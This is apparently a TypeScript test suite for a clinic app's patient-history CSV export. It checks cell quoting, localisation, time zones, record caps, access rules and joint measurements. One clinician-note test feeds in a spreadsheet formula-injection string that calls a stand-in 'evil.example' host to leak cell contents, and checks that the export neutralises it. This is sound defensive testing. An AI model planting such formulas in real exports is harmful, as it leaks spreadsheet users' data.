// The history CSV against an in-process database: its cells (numbers in the reader's notation,
// text quoted where needed, a formula neutralised), its order, its clock, its languages and the
// 5,000-record cap. test/api/export.test.ts and export-cells.test.ts prove the same through the route.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { parse } from "csv-parse/sync";
import { painBody, romBody } from "@/lib/assessments/examples";
import type { KindSubmission } from "@/lib/assessments/kinds/kind";
import type { AccessContext } from "@/lib/audit";
import type { AuthUser } from "@/lib/auth/guard";
import type { TestDatabase } from "@/test/support/database";
import { dropDatabase, useFreshDatabase } from "@/test/support/in-process-db";

let database: TestDatabase;
let exporter: typeof import("@/lib/patients/export");
let db: typeof import("@/lib/db").db;
let patient: AuthUser;
let clinicId: number;
/** The seeded records' codes (as stored) by what they are. */
const codes: Record<"rom" | "pain" | "quickdash", string> = { rom: "", pain: "", quickdash: "" };

const ROM_AT = "2026-07-01T12:00:00.000Z";
const PAIN_AT = "2026-01-10T23:45:00.000Z";
const QUICKDASH_AT = "2026-03-02T08:05:00.000Z";

before(async () => {
  process.env.LOG_LEVEL = "silent";
  database = await useFreshDatabase();
  exporter = await import("@/lib/patients/export");
  ({ db } = await import("@/lib/db"));
  const { KINDS } = await import("@/lib/assessments/kinds");
  const { KIND_CONTRACTS } = await import("@/lib/assessments/kinds/contracts");
  const { submitKind } = await import("@/lib/assessments/submit");
  const contact = await db().contact.create({ data: { sub: "test|pat", kind: "PATIENT", roles: ["patient"], name: "Pat Export" } });
  patient = { sub: "test|pat", email: null, name: null, roles: ["patient"], contactId: contact.id, kind: "PATIENT" };
  clinicId = (await db().clinic.create({ data: { name: "Export Clinic", joinCode: "ABCDEFGHJK", createdBy: "test" } })).id;
  await db().clinicMember.create({ data: { clinicId, sub: "test|doc", role: "clinician", addedBy: "test" } });
  await db().patientShare.create({ data: { patientId: contact.id, clinicId } });
  const submit = async (type: "ROM" | "PAIN" | "QUICKDASH", body: unknown, at: string) => {
    const submission: KindSubmission = KIND_CONTRACTS[type].submission!;
    const created = await submitKind(KINDS[type].stored, submission, submission.endpoint.body!.parse(body) as never, patient);
    await db().assessment.update({ where: { id: created.id }, data: { dateCreated: new Date(at) } });
    return created.code;
  };
  // Stored newest first: the CSV's order is the records' dates.
  codes.rom = await submit("ROM", romBody, ROM_AT);
  codes.quickdash = await submit("QUICKDASH", { hand: "RIGHT", responses: [1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 2] }, QUICKDASH_AT);
  codes.pain = await submit("PAIN", painBody, PAIN_AT);
});
after(() => dropDatabase(database));

const doc: AuthUser = { sub: "test|doc", email: null, name: null, roles: ["care_provider"], contactId: 0, kind: "STAFF" };
let requests = 0;
const context = (who: AuthUser): AccessContext => ({
  user: who,
  route: "/api/patients/{id}/export",
  requestId: `req-${++requests}`,
  clientRequestId: null,
  address: "10.4.0.1",
  limits: { key: `user:${who.sub}`, site: null },
});

const doctorContact = () =>
  db().contact.upsert({
    where: { sub: "test|doc" },
    create: { sub: "test|doc", kind: "STAFF", roles: ["care_provider"], name: "Dr Doc" },
    update: {},
  });

const formatted = (code: string) => `${code.slice(0, 3)}-${code.slice(3)}`;

async function download(language: "en" | "es", timeZone = "Europe/Madrid", who = doc, patientId = patient.contactId) {
  return exporter.patientHistoryCsv(context(who), patientId, { timeZone, locale: language }, language);
}

const rowsOf = (csv: string, delimiter: string) => parse(csv, { delimiter, bom: true }) as string[][];

test("the CSV: a byte-order mark, a header in the reader's language, one CRLF line per measurement oldest first, and the patient's file name", async () => {
  const { filename, csv } = await download("en");
  assert.equal(filename, `patient-${patient.contactId}-history.csv`);
  assert.ok(
    csv.startsWith(
      "\uFEFFRecord no.,Local date and time,UTC timestamp,Test,Hand,Metric,Value,Unit,Direction,Measurement quality,Result code\r\n",
    ),
  );
  assert.ok(csv.endsWith("\r\n") && !csv.endsWith("\r\n\r\n"));
  assert.ok(!/[^\r]\n/.test(csv), "every line ends in CRLF");
  const [, ...rows] = rowsOf(csv, ",");
  assert.deepEqual(rows[0], [
    String(patient.contactId),
    // 23:45 UTC on 10 January is 00:45 the next day in Madrid (UTC+1 in winter).
    "2026-01-11 00:45 Europe/Madrid",
    PAIN_AT,
    "Pain",
    "Both",
    "Worst pain",
    "6",
    "/ 10",
    "lower is better",
    "",
    formatted(codes.pain),
  ]);
  assert.deepEqual(
    rows.map((row) => row[10]).filter((code, index, all) => code !== all[index - 1]),
    [formatted(codes.pain), formatted(codes.quickdash), formatted(codes.rom)],
  );
  const quickdash = rows.filter((row) => row[10] === formatted(codes.quickdash));
  assert.deepEqual(
    quickdash.map((row) => row.slice(1, 10)),
    [
      [
        "2026-03-02 09:05 Europe/Madrid",
        QUICKDASH_AT,
        "QuickDASH questionnaire",
        "Right",
        "QuickDASH disability",
        "2.27",
        "/ 100",
        "lower is better",
        "",
      ],
      ["2026-03-02 09:05 Europe/Madrid", QUICKDASH_AT, "QuickDASH questionnaire", "Right", "Items answered", "11", "", "", ""],
    ],
  );
  const overall = rows.find((row) => row[5] === "Overall score")!;
  // Summer time: UTC+2; noon UTC is 14:00.
  assert.deepEqual(overall.slice(1, 10), [
    "2026-07-01 14:00 Europe/Madrid",
    ROM_AT,
    "Range of motion",
    "Left",
    "Overall score",
    "72",
    "/ 100",
    "higher is better",
    // The quality holds a comma: quoted in the file, one cell.
    "Lighting: Good, 93.3 % valid frames",
  ]);
  assert.ok(csv.includes(',"Lighting: Good, 93.3 % valid frames",'));
  assert.deepEqual(
    rows.filter((row) => row[5]!.startsWith("Index MCP")).map((row) => [row[5], row[6], row[8]]),
    [
      ["Index MCP extension", "-3", ""],
      ["Index MCP flexion", "85", "higher is better"],
      ["Index MCP arc", "82", "higher is better"],
    ],
  );
  // A negative number is a number, written as such, not text to neutralise.
  assert.ok(csv.includes(",Index MCP extension,-3,°,,"));
});

test("in Spanish: Spanish words, decimal commas and `;` between cells, a comma left unquoted", async () => {
  const { csv } = await download("es", "UTC");
  assert.ok(csv.startsWith("\uFEFFN.º de historia;Fecha y hora local;Marca de tiempo UTC;Prueba;Mano;Medida;Valor;Unidad;Sentido;"));
  const [, ...rows] = rowsOf(csv, ";");
  const quickdash = rows.find((row) => row[5] === "Discapacidad QuickDASH")!;
  assert.deepEqual(quickdash.slice(1, 9), [
    "2026-03-02 08:05 UTC",
    QUICKDASH_AT,
    "Cuestionario QuickDASH",
    "Derecha",
    "Discapacidad QuickDASH",
    "2,27",
    "/ 100",
    "más bajo es mejor",
  ]);
  assert.ok(csv.includes(";2,27;"), "a decimal comma in an unquoted cell");
  assert.ok(csv.includes(";Iluminación: Buena, 93,3 % de fotogramas válidos;"), "a comma needs no quotes where `;` separates");
  assert.equal(rows.find((row) => row[5] === "Puntuación global")![1], "2026-07-01 12:00 UTC");
});

test("a clinician's note is a row: after the measurements of its instant, its author and clinic as the metric, hostile text neutralised", async () => {
  const doctor = await doctorContact();
  const romId = (await db().assessment.findUniqueOrThrow({ where: { code: codes.rom } })).id;
  const texts = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+1 if worse",
    "-2 since last visit",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturn first",
    'a "quoted" word',
    "line one\nline two",
    "semi; colon",
    "plain - dash inside",
  ];
  const base = Date.parse(ROM_AT);
  for (const [index, text] of texts.entries()) {
    await db().clinicianNote.create({
      data: {
        patientId: patient.contactId,
        authorContactId: doctor.id,
        authorSub: "test|doc",
        clinicId,
        assessmentId: index === 0 ? romId : null,
        text,
        // The first at the ROM record's own instant, the rest a minute apart after it.
        createdAt: new Date(base + index * 60_000),
      },
    });
  }
  const unnamed = await db().contact.create({ data: { sub: "test|anon-doc", kind: "STAFF", roles: ["care_provider"] } });
  await db().clinicianNote.create({
    data: {
      patientId: patient.contactId,
      authorContactId: unnamed.id,
      authorSub: "test|anon-doc",
      clinicId: null,
      text: "unsigned",
      createdAt: new Date(base + 3_600_000),
    },
  });
  try {
    const { csv } = await download("en");
    const [, ...rows] = rowsOf(csv, ",");
    const notes = rows.filter((row) => row[3] === "Clinical note");
    assert.deepEqual(
      notes.map((row) => row[6]),
      [
        `'${texts[0]}`,
        "'+1 if worse",
        "'-2 since last visit",
        "'@SUM(A1:A2)",
        "'\tindented",
        "'\rreturn first",
        'a "quoted" word',
        "line one\nline two",
        "semi; colon",
        "plain - dash inside",
        "unsigned",
      ],
    );
    assert.deepEqual(notes[0], [
      String(patient.contactId),
      "2026-07-01 14:00 Europe/Madrid",
      ROM_AT,
      "Clinical note",
      "",
      "Dr Doc, Export Clinic",
      `'${texts[0]}`,
      "",
      "",
      "",
      formatted(codes.rom),
    ]);
    assert.deepEqual(notes.at(-1)!.slice(5), ["Clinician without a name on record", "unsigned", "", "", "", ""]);
    // The notes come after every measurement of the ROM record's instant, the last row of which is a TAM or joint.
    const firstNote = rows.indexOf(notes[0]!);
    assert.equal(rows[firstNote - 1]![10], formatted(codes.rom));
    assert.equal(rows.slice(firstNote).filter((row) => row[3] !== "Clinical note").length, 0);
    assert.ok(csv.includes(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""open"")",`), "quotes doubled inside a quoted cell");
    assert.ok(csv.includes(',"line one\nline two",'));
    assert.ok(csv.includes(",semi; colon,"), "a `;` needs no quotes where `,` separates");
    const spanish = rowsOf((await download("es")).csv, ";");
    assert.ok((await download("es")).csv.includes(';"semi; colon";'));
    assert.equal(spanish.filter((row) => row[6] === "semi; colon").length, 1);
  } finally {
    await db().clinicianNote.deleteMany({ where: { patientId: patient.contactId } });
  }
});

test("the patient exports their own history; a clinician's export is audited; a clinician outside their clinics gets a 404", async () => {
  const own = await download("en", "UTC", patient);
  assert.equal(rowsOf(own.csv, ",").length, (await download("en", "UTC")).csv.split("\r\n").length - 1);
  const audited = await db().auditEvent.count({ where: { patientId: patient.contactId, action: "export_history" } });
  assert.ok(audited >= 1);
  const stranger: AuthUser = { ...doc, sub: "test|stranger" };
  await assert.rejects(download("en", "UTC", stranger), { status: 404 });
});

test("an export holds the patient's newest 5,000 records, counts the older ones left out, and none of another patient's", async () => {
  const many = await db().contact.create({ data: { sub: "test|many", kind: "PATIENT", roles: ["patient"] } });
  /** Record n's code: Z and n's five decimal digits written as letters. */
  const code = (n: number) => `Z${[...String(n).padStart(5, "0")].map((digit) => "ABCDEFGHJK"[Number(digit)]).join("")}`;
  // Stored newest first (record 0 is the newest), so the cap must keep the newest by date, not the first or last stored.
  await db().$executeRaw`
    INSERT INTO assessments (code, assessment_type, hand, result_snapshot, is_anonymous, owner_id, date_created)
    SELECT 'Z' || translate(lpad(n::text, 5, '0'), '0123456789', 'ABCDEFGHJK'), a.assessment_type, a.hand, a.result_snapshot,
           false, ${many.id}, timestamptz '2020-01-01T00:00:00Z' + (5000 - n) * interval '1 minute'
      FROM generate_series(0, 5000) AS n, assessments a
     WHERE a.code = ${codes.quickdash}`;
  const manyUser: AuthUser = { ...patient, sub: "test|many", contactId: many.id };
  const { csv, recordsLeftOut } = await download("en", "UTC", manyUser, many.id);
  const [, ...rows] = rowsOf(csv, ",");
  const recordCodes = new Set(rows.map((row) => row[10]));
  assert.equal(recordCodes.size, 5000);
  assert.equal(rows.length, 10000);
  const instants = rows.map((row) => row[2]!);
  assert.deepEqual(instants, [...instants].sort(), "oldest first, past the cap too");
  assert.ok(recordCodes.has(formatted(code(0))), "the newest is in");
  assert.ok(!recordCodes.has(formatted(code(5000))), "the oldest record is the one left out");
  assert.equal(recordsLeftOut, 1);
  assert.ok(rows.every((row) => row[0] === String(many.id)));
  assert.ok(!csv.includes(formatted(codes.rom)));
});

test("a note correcting another names when that one was written, and a note about a record names the record's code", async () => {
  const { historyNotes, historyRecords } = await import("@/lib/patients/history");
  const { ownPatientRecord } = await import("@/lib/access");
  const { wordsFor } = await import("@/lib/report-view/words");
  const doctor = await doctorContact();
  const romId = (await db().assessment.findUniqueOrThrow({ where: { code: codes.rom } })).id;
  const note = (text: string, createdAt: string, extra: { correctsId?: number; assessmentId?: number } = {}) =>
    db().clinicianNote.create({
      data: {
        patientId: patient.contactId,
        authorContactId: doctor.id,
        authorSub: "test|doc",
        clinicId,
        text,
        createdAt: new Date(createdAt),
        ...extra,
      },
    });
  try {
    const first = await note("first", "2026-08-01T10:00:00.000Z");
    await note("second", "2026-08-02T10:00:00.000Z", { correctsId: first.id, assessmentId: romId });
    const notes = await historyNotes(ownPatientRecord(patient), await historyRecords(patient.contactId), wordsFor("en"));
    assert.deepEqual(
      notes.map((n) => [n.createdAt, n.author, n.text, n.corrects, n.about]),
      [
        ["2026-08-01T10:00:00.000Z", "Dr Doc, Export Clinic", "first", null, null],
        ["2026-08-02T10:00:00.000Z", "Dr Doc, Export Clinic", "second", "2026-08-01T10:00:00.000Z", formatted(codes.rom)],
      ],
    );
  } finally {
    await db().clinicianNote.deleteMany({ where: { patientId: patient.contactId } });
  }
});

/** A range-of-motion record of a left hand with these finger joints (and no kind metric but the overall score). */
const romRecord = (jointResults: Record<string, unknown>[]) => ({
  id: 1,
  code: "AAAAAA",
  type: "ROM" as const,
  hand: "LEFT",
  dateCreated: ROM_AT,
  snapshot: { overallScore: 70 },
  results: { handResults: [{ hand: "LEFT", jointResults }] },
});

test("a record's figures: its kind's metrics, each joint's extension, flexion and arc as measured, and a finger's TAM when all its joints are", async () => {
  const { measurementRows } = await import("@/lib/patients/history");
  const { wordsFor } = await import("@/lib/report-view/words");
  const joint = (finger: string, jointType: string, rom: number, angles?: [number, number]) => ({
    finger,
    jointType,
    rom,
    ...(angles ? { minAngle: angles[0], maxAngle: angles[1] } : {}),
  });
  const rows = measurementRows(
    romRecord([
      // Index: MCP hyperextends 20° (extension +20), PIP 0-90, DIP recorded without its angles: TAM 85 + 90 + 60.
      joint("INDEX", "MCP", 105, [-20, 85]),
      joint("INDEX", "PIP", 90, [0, 90]),
      joint("INDEX", "DIP", 60),
      // Middle: the MCP alone, so no TAM.
      joint("MIDDLE", "MCP", 80, [5, 85]),
    ]),
    wordsFor("en"),
  );
  assert.deepEqual(
    rows.map((row) => [row.metric, row.label, row.value, row.unit, row.direction]),
    [
      ["overallScore", "Overall score", 70, "score", "higherIsBetter"],
      ["INDEX.MCP.extension", "Index MCP extension", 20, "degree", null],
      ["INDEX.MCP.flexion", "Index MCP flexion", 85, "degree", "higherIsBetter"],
      ["INDEX.MCP.arc", "Index MCP arc", 105, "degree", "higherIsBetter"],
      ["INDEX.PIP.extension", "Index PIP extension", 0, "degree", null],
      ["INDEX.PIP.flexion", "Index PIP flexion", 90, "degree", "higherIsBetter"],
      ["INDEX.PIP.arc", "Index PIP arc", 90, "degree", "higherIsBetter"],
      ["INDEX.DIP.arc", "Index DIP arc", 60, "degree", "higherIsBetter"],
      ["INDEX.TAM", "Index TAM", 235, "degree", "higherIsBetter"],
      ["MIDDLE.MCP.extension", "Middle MCP extension", -5, "degree", null],
      ["MIDDLE.MCP.flexion", "Middle MCP flexion", 85, "degree", "higherIsBetter"],
      ["MIDDLE.MCP.arc", "Middle MCP arc", 80, "degree", "higherIsBetter"],
    ],
  );
  assert.deepEqual(measurementRows({ ...romRecord([]), type: "UNKNOWN" as never }, wordsFor("en")), []);
});

test("measurement quality: the lighting and the share of usable frames, whichever was recorded, in the reader's notation", async () => {
  const { measurementQuality } = await import("@/lib/patients/history");
  const { wordsFor } = await import("@/lib/report-view/words");
  const quality = (snapshot: Record<string, unknown>, wrist: Record<string, unknown> | null, language: "en" | "es" = "en") =>
    measurementQuality({ snapshot, results: wrist === null ? null : { wrist } }, wordsFor(language));
  assert.equal(quality({ lightingQuality: "GOOD" }, { percent_valid_frames: 93.34 }), "Lighting: Good, 93.3 % valid frames");
  assert.equal(
    quality({ lightingQuality: "GOOD" }, { percent_valid_frames: 93.34 }, "es"),
    "Iluminación: Buena, 93,3 % de fotogramas válidos",
  );
  assert.equal(quality({ lightingQuality: "GOOD" }, null), "Lighting: Good");
  assert.equal(quality({ lightingQuality: "  " }, { frames_valid: 50, frames_total: 200 }), "25 % valid frames");
  assert.equal(quality({}, { percent_valid_frames: Number.POSITIVE_INFINITY, frames_valid: 1, frames_total: 3 }), "33.3 % valid frames");
  assert.equal(quality({}, { percent_valid_frames: "93", frames_valid: 0, frames_total: 10 }), "0 % valid frames");
  assert.equal(quality({ lightingQuality: 3 }, { frames_valid: 5, frames_total: 0 }), null);
  assert.equal(quality({}, { frames_valid: "5", frames_total: 10 }), null);
  assert.equal(quality({}, { frames_valid: 5 }), null);
  assert.equal(quality({}, null), null);
  const results = (wrist: unknown) => measurementQuality({ snapshot: {}, results: { wrist } }, wordsFor("en"));
  assert.equal(results(null), null);
  assert.equal(results([93]), null);
  assert.equal(results(Object.assign([], { percent_valid_frames: 93 })), null, "an array is not the wrist's results");
});
